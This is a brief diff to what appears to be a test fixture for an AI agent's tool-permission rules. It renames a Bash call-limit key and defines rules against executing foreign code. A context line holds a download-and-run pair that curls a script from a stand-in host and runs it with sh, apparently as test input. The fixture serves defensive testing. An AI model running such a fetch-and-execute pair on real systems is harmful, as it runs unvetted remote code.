@@ -24,7 +24,7 @@ TOOLS = [
 RULES = [
     {"name": "foreign", "does": {"effects": ["execute"], "scope": ["other"]}, "reason": "foreign"}
 ]
-COUNTED = {"tool": "Bash", "max_calls": 2, "reason": "too_often"}
+COUNTED = {"tool": "Bash", "max": 2, "reason": "too_often"}
 FETCH, RUN = "curl -sSo i.sh https://up.example.net/i.sh", "sh i.sh"
 _number = itertools.count(1)
 
